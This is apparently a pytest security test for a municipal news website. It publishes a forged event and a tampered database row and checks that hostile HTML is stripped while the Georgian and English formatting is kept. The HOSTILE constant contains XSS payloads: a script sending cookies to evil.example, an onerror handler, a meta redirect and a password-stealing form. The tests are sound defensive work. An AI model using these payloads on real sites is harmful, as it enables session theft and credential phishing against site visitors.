"""A forged publication with hostile HTML, put on the real bus with the publishing
service's credentials (as someone who stole them would): the website stores and serves
the text and its formatting, and none of the script, handler, redirect or form.

The same hostile body written straight into the read model (a row stored before the
website cleaned on arrival) is cleaned again when the page is rendered.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest

from meria.contracts import DocumentPublished, LocalizedText
from meria.testing.servers import NatsServer
from services.website.freshness import read_model_changed
from services.website.models import PublicDocument
from tests.conftest import DatabaseFactory
from tests.support.stack import Stack, publish_event, running_stack, wait_until

FORGED_ID = 990001
LEGITIMATE = (
    "<p>ახმეტის მუნიციპალიტეტის მერიამ <strong>თუშეთის გზის</strong> შეკეთება დაასრულა.</p>"
    '<p>დეტალები: <a href="https://akhmeta.gov.ge/roads">გზების გვერდი</a></p>'
    "<ul><li>ომალოს მონაკვეთი</li><li>აბანოს უღელტეხილი</li></ul>"
)
HOSTILE = (
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<img src="https://evil.example/pixel.png" onerror="alert(\'ახმეტა\')">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<form action="https://evil.example/steal" method="post">'
    '<input name="password" placeholder="პაროლი"><button>შესვლა</button></form>'
)
# What must be nowhere in the stored row or the served page (whose own search form has
# an input of its own), and what the stored body must not hold either.
FORBIDDEN = ("<script", "onerror", "http-equiv", "evil.example/steal", 'name="password"', "პაროლი")
NOT_STORED = ("<form", "<input", "<meta", "<button")


@pytest.fixture
async def website(
    tmp_path: Path, nats_server: NatsServer, new_database: DatabaseFactory
) -> AsyncIterator[Stack]:
    async with running_stack(
        ["website"], tmp_path=tmp_path, nats_url=nats_server.url, new_database=new_database
    ) as stack:
        yield stack


def forged_news(body_ka: str) -> DocumentPublished:
    return DocumentPublished(
        document_id=FORGED_ID,
        edition=1,
        document_type="news",
        title=LocalizedText(ka="თუშეთის გზა შეკეთდა", en="The Tusheti road is repaired"),
        body_html=LocalizedText(ka=body_ka, en=f"<p>The road is repaired.</p>{HOSTILE}"),
        published_at=datetime.now(UTC),
    )


async def stored_body(stack: Stack) -> tuple[str | None, str | None]:
    async with stack.runtime("website").db().session() as session:
        document = await session.get(PublicDocument, FORGED_ID)
        assert document is not None
        return document.body_html_ka, document.body_html_en


def assert_clean(html: str) -> None:
    for hostile in FORBIDDEN:
        assert hostile not in html, f"{hostile!r} survived"


def assert_formatting_kept(html: str) -> None:
    assert "<strong>თუშეთის გზის</strong>" in html
    assert '<a href="https://akhmeta.gov.ge/roads" rel="noopener noreferrer">' in html
    assert "<ul><li>ომალოს მონაკვეთი</li><li>აბანოს უღელტეხილი</li></ul>" in html


async def test_a_forged_publication_is_stored_and_served_without_its_hostile_html(
    website: Stack, nats_server: NatsServer
) -> None:
    # The attacker publishes with the publishing service's own credentials.
    await publish_event(nats_server.url, forged_news(LEGITIMATE + HOSTILE), about="document:1")
    async with httpx.AsyncClient(base_url=website.urls["website"], timeout=20) as http:

        async def listed() -> bool:
            return any(
                item["document_id"] == FORGED_ID
                for item in (await http.get("/api/documents")).json()
            )

        await wait_until(listed, what="the forged news on the website")

        # The read model holds the text and its formatting, none of the rest.
        body_ka, body_en = await stored_body(website)
        assert body_ka is not None and body_en is not None
        for body in (body_ka, body_en):
            assert_clean(body)
            assert not any(tag in body for tag in NOT_STORED), body
        assert_formatting_kept(body_ka)
        assert "<p>The road is repaired.</p>" in body_en

        # So do the news list and the page, in Georgian and in English.
        news = await http.get("/news")
        assert news.status_code == 200
        assert "თუშეთის გზა შეკეთდა" in news.text
        assert_clean(news.text)
        for path in (f"/news/{FORGED_ID}", f"/en/news/{FORGED_ID}"):
            page = await http.get(path)
            assert page.status_code == 200, path
            assert_clean(page.text)
        assert_formatting_kept((await http.get(f"/news/{FORGED_ID}")).text)


async def test_a_hostile_body_already_in_the_read_model_is_cleaned_as_it_is_rendered(
    website: Stack, nats_server: NatsServer
) -> None:
    await publish_event(nats_server.url, forged_news(LEGITIMATE), about="document:1")
    async with httpx.AsyncClient(base_url=website.urls["website"], timeout=20) as http:

        async def shown() -> bool:
            return (await http.get(f"/news/{FORGED_ID}")).status_code == 200

        await wait_until(shown, what="the news page")
        # Written behind the website's back, as a row stored before it cleaned on arrival.
        async with website.runtime("website").db().transaction() as session:
            document = await session.get(PublicDocument, FORGED_ID)
            assert document is not None
            document.body_html_ka = LEGITIMATE + HOSTILE
            await read_model_changed(session)
        assert (await stored_body(website))[0] == LEGITIMATE + HOSTILE

        page = await http.get(f"/news/{FORGED_ID}")
        assert page.status_code == 200
        assert_clean(page.text)
        assert_formatting_kept(page.text)
